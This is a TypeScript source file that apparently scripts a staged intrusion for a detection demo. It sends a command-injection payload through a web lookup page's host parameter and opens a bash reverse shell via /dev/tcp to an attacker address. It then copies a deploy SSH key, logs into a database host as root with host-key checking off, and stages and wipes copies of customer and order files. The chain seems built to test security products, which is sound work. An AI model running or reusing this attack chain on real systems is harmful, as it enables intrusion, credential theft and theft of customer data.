/**
 * The script of the intrusion: which commands are typed on which host, in three stages, with what each must cause in
 * the kernel. The commands are run for real by the shell that the exploit opened; a command that exits with anything
 * but 0 ends the stage. The record that a stage returns is what was asked of the hosts: a product's findings can be
 * held against it, never fed from it.
 */

import { fail, ok, type Result } from "#core/result.ts";
import { deployKeyPath, lookupPath } from "./host-files.ts";
import type { Intruder } from "./intruder.ts";
import type { DemoAddresses } from "./network.ts";

export type HostName = "web-01" | "db-01";

/** A change of one file name, as the kernel sees it. */
export type FileChange =
	| { readonly kind: "create"; readonly path: string }
	| { readonly kind: "rename"; readonly path: string; readonly to: string }
	| { readonly kind: "unlink"; readonly path: string };

/** A TCP connection that a process of the host opens. */
export type Connection = { readonly address: string; readonly port: number };

export type Command = {
	readonly host: HostName;
	readonly line: string;
	readonly files: readonly FileChange[];
	readonly connections: readonly Connection[];
};

export type CommandRecord = Command & {
	readonly output: string;
	/** Wall clock around the command, milliseconds since 1970. */
	readonly startedAtMs: number;
	readonly endedAtMs: number;
};

export type StageName = "exploit" | "stage2" | "stage3";
export type StageRecord = { readonly stage: StageName; readonly commands: readonly CommandRecord[] };

/** Where the intruder waits for the shell; a port that outbound filters let through. */
const callbackPort = 443;
const loot = "/srv/app/.cache";
const key = "/tmp/.cache/id";

function command(host: HostName, line: string, effects: Partial<Command> = {}): Command {
	return { host, line, files: effects.files ?? [], connections: effects.connections ?? [] };
}

/**
 * What the exploit puts behind the host name of the lookup page. The last `echo` keeps the outer shell alive under
 * Apache.
 */
function payload(addresses: DemoAddresses): Command {
	const address = addresses.attacker;
	const shell = `bash -i >& /dev/tcp/${address}/${callbackPort} 0>&1`;
	return command("web-01", `db-01; id; uname -a; ls -l /var/backups; ${shell}; echo`, {
		connections: [{ address, port: callbackPort }],
	});
}

/**
 * Takes the key, logs in to db-01 over SSH with it, and stages a copy of the customers there. The session stays open.
 */
function stage2Commands(addresses: DemoAddresses): readonly Command[] {
	const ssh =
		`ssh -i ${key} -T -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null ` +
		`-o LogLevel=ERROR root@${addresses.db} bash`;
	return [
		command("web-01", `cat ${deployKeyPath}`),
		command("web-01", `mkdir /tmp/.cache && cp ${deployKeyPath} ${key}.part && chmod 600 ${key}.part`, {
			files: [{ kind: "create", path: `${key}.part` }],
		}),
		command("web-01", `mv ${key}.part ${key}`, { files: [{ kind: "rename", path: `${key}.part`, to: key }] }),
		// From here on the shell's lines go through ssh to a bash on db-01.
		command("web-01", ssh, { connections: [{ address: addresses.db, port: 22 }] }),
		command("db-01", "id; uname -n; ls -l /srv/app"),
		command("db-01", `mkdir ${loot} && touch ${loot}/lock`, { files: [{ kind: "create", path: `${loot}/lock` }] }),
		command("db-01", `cp /srv/app/customers.csv ${loot}/customers.part`, {
			files: [{ kind: "create", path: `${loot}/customers.part` }],
		}),
		command("db-01", `mv ${loot}/customers.part ${loot}/customers.csv`, {
			files: [{ kind: "rename", path: `${loot}/customers.part`, to: `${loot}/customers.csv` }],
		}),
		fetchPage(addresses, `${loot}/page`),
		command("db-01", `rm ${loot}/lock`, { files: [{ kind: "unlink", path: `${loot}/lock` }] }),
	];
}

/** One more round on db-01 through the same SSH session: the orders this time, shown to the intruder and wiped. */
function stage3Commands(addresses: DemoAddresses, round: number): readonly Command[] {
	const part = `${loot}/orders-${round}.part`;
	const copy = `${loot}/orders-${round}.csv`;
	return [
		command("db-01", `cp /srv/app/orders.csv ${part}`, { files: [{ kind: "create", path: part }] }),
		command("db-01", `mv ${part} ${copy}`, { files: [{ kind: "rename", path: part, to: copy }] }),
		command("db-01", `tail -n 3 ${copy}`),
		fetchPage(addresses, `${loot}/page-${round}`),
		command("db-01", `rm ${copy}`, { files: [{ kind: "unlink", path: copy }] }),
	];
}

/** bash itself opens the connection, as it does where no download tool is installed. */
function fetchPage(addresses: DemoAddresses, file: string): Command {
	const address = addresses.webBack;
	const line =
		`exec 3<>/dev/tcp/${address}/80 && printf 'GET /index.html HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3 >${file} && ` +
		`exec 3>&- && grep -q web-01 ${file}`;
	return command("db-01", line, { files: [{ kind: "create", path: file }], connections: [{ address, port: 80 }] });
}

/** Runs the stages in their order; the third may be repeated. */
export class Intrusion {
	readonly #intruder: Intruder;
	readonly #addresses: DemoAddresses;
	#stagesDone = 0;

	constructor(intruder: Intruder, addresses: DemoAddresses) {
		this.#intruder = intruder;
		this.#addresses = addresses;
	}

	async exploit(): Promise<Result<StageRecord, "intrusion_failed">> {
		if (this.#stagesDone > 0) return fail("intrusion_failed", "the exploit has already run");
		const sent = payload(this.#addresses);
		const startedAtMs = Date.now();
		const report = await this.#intruder.order({
			kind: "exploit",
			web: this.#addresses.webFront,
			path: `${lookupPath}?host=${encodeURIComponent(sent.line)}`,
			listen: { address: this.#addresses.attacker, port: callbackPort },
		});
		if (!report.ok) return report;
		if (report.value.kind !== "shell") return fail("intrusion_failed", `unexpected report ${report.value.kind}`);
		this.#stagesDone = 1;
		const done = { ...sent, output: report.value.output, startedAtMs, endedAtMs: Date.now() };
		return ok({ stage: "exploit", commands: [done] });
	}

	async stage2(): Promise<Result<StageRecord, "intrusion_failed">> {
		if (this.#stagesDone !== 1) return fail("intrusion_failed", "stage 2 runs once, after the exploit");
		return this.#type("stage2", stage2Commands(this.#addresses));
	}

	async stage3(): Promise<Result<StageRecord, "intrusion_failed">> {
		if (this.#stagesDone < 2) return fail("intrusion_failed", "stage 3 runs after stage 2");
		return this.#type("stage3", stage3Commands(this.#addresses, this.#stagesDone - 1));
	}

	async #type(stage: StageName, commands: readonly Command[]): Promise<Result<StageRecord, "intrusion_failed">> {
		const done: CommandRecord[] = [];
		for (const each of commands) {
			const startedAtMs = Date.now();
			const report = await this.#intruder.order({ kind: "type", line: each.line });
			if (!report.ok) return report;
			if (report.value.kind !== "typed") return fail("intrusion_failed", `unexpected report ${report.value.kind}`);
			const { status, output } = report.value;
			if (status !== 0) {
				return fail("intrusion_failed", `exit status ${status} on ${each.host}: ${each.line}: ${output.trim()}`);
			}
			done.push({ ...each, output, startedAtMs, endedAtMs: Date.now() });
		}
		this.#stagesDone += 1;
		return ok({ stage, commands: done });
	}
}
